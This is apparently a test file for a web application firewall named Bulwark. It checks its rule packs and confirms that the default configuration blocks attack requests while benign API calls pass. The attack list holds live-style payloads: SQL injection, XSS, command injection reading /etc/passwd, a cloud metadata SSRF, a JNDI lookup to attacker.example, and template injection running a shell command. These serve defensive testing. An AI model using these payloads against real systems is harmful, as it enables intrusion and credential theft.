// Bulwark's built-in packs (rules/packs/, embedded through rules/builtin-packs.json): every pack's own
// tests through the real filter, the embedded set equals the manifest, and the default configuration
// (rules/default.json, waf.builtinPacks "all") blocks attacks of each category and passes API traffic.
import { test, before } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { execFileSync, spawnSync } from "node:child_process";
import { Host } from "../../src/host/index.ts";
import { evaluate } from "../../src/cli/test.ts";

const wasm = () => readFileSync("build/bulwark.wasm");
const manifest = JSON.parse(readFileSync("rules/builtin-packs.json", "utf8"));
const packs = manifest.packs.map((f: string) => JSON.parse(readFileSync(`rules/${f}`, "utf8")));

before(() => { execFileSync(process.execPath, ["scripts/build.mjs", "--if-needed"], { stdio: "inherit" }); });

test("every pack under rules/ passes its own tests (npx bulwark test rules/)", () => {
  const r = spawnSync(process.execPath, ["build/cli.js", "test", "rules/"], { encoding: "utf8" });
  assert.equal(r.status, 0, r.stdout + r.stderr);
  const m = /(\d+) passed, 0 failed/.exec(r.stdout + r.stderr);
  assert.ok(m && Number(m[1]) >= 400, r.stdout.slice(-400));
});

test("every built-in pack has msg, tags, severity and a paranoia level on each rule, and a test that fires each rule", () => {
  const ids = new Set<number>();
  for (const p of packs) {
    const fired = new Set<number>(p.tests.flatMap((t: any) => t.match ?? []));
    for (const r of p.rules) {
      if (r.marker || r.log === false) continue;
      assert.ok(!ids.has(r.id), `duplicate id ${r.id}`); ids.add(r.id);
      for (const k of ["msg", "tags", "severity", "paranoiaLevel"]) assert.ok(r[k] !== undefined, `${p.id} ${r.id}: no ${k}`);
      assert.ok(fired.has(r.id), `${p.id} ${r.id}: no test makes it fire`);
    }
  }
});

test("the default configuration runs every built-in pack: attacks of each category blocked, API traffic passes", async () => {
  const host = await Host.create({ wasm: wasm(), configuration: readFileSync("rules/default.json", "utf8") });
  const json = (body: object) => ({ method: "POST", uri: "/api/items", headers: [["content-type", "application/json"]] as [string, string][], body: JSON.stringify(body) });
  const attacks: Array<[string, any]> = [
    ["sqli", { uri: "/api/items?id=1%27%20OR%20%271%27%3D%271" }],
    ["xss", json({ comment: "<svg onload=alert(document.domain)>" })],
    ["cmdi", { uri: "/api/ping?host=127.0.0.1%3Bcat%20/etc/passwd" }],
    ["lfi", { uri: "/api/files?name=..%2F..%2F..%2Fetc%2Fpasswd" }],
    ["ssrf", json({ webhook: "http://169.254.169.254/latest/meta-data/iam/security-credentials/" })],
    ["jndi", { uri: "/api/items", headers: [["user-agent", "${jndi:ldap://attacker.example/a}"]] }],
    ["nosqli", { uri: "/api/login?user=admin&password[$ne]=x" }],
    ["ssti", json({ name: "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}" })],
  ];
  for (const [cat, req] of attacks) {
    const v = await evaluate(host, req);
    assert.equal(v.status, 403, `${cat} should be blocked: ${JSON.stringify(v)}`);
  }
  const benign: any[] = [
    { uri: "/api/items?page=2&sort=-created_at" },
    json({ name: "O'Brien", note: "rock & roll -- best of the 70's", tags: ["a", "b"] }),
    { method: "PATCH", uri: "/api/items/42", headers: [["content-type", "application/json"]], body: "{\"price\": 12.5}" },
    { method: "DELETE", uri: "/api/items/42" },
    json({ query: "query { user(id: 1) { name email } }" }),
    json({ ticket: "Running `SELECT name FROM users WHERE id = 1` returns nothing, and `ls -la /tmp` shows the file." }),
    { uri: "/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E%20caf%C3%A9" },
  ];
  for (const req of benign) {
    const v = await evaluate(host, req);
    assert.equal(v.status, 200, `benign ${JSON.stringify(req)} was answered ${v.status} (rules ${v.rules})`);
  }
  host.close();
});

test("waf.builtinPacks picks packs by id; \"none\" runs none", async () => {
  const only = await Host.create({ wasm: wasm(), configuration: JSON.stringify({ waf: { builtinPacks: ["xss"] } }) });
  assert.equal((await evaluate(only, { uri: "/?q=%3Cscript%3Ealert(1)%3C/script%3E" })).status, 403);
  assert.equal((await evaluate(only, { uri: "/api/ping?host=x%3Bcat%20/etc/passwd" })).status, 200, "cmdi pack not selected");
  only.close();
  const none = await Host.create({ wasm: wasm(), configuration: JSON.stringify({ waf: { builtinPacks: "none" } }) });
  assert.equal((await evaluate(none, { uri: "/?q=%3Cscript%3Ealert(1)%3C/script%3E" })).status, 200);
  none.close();
});
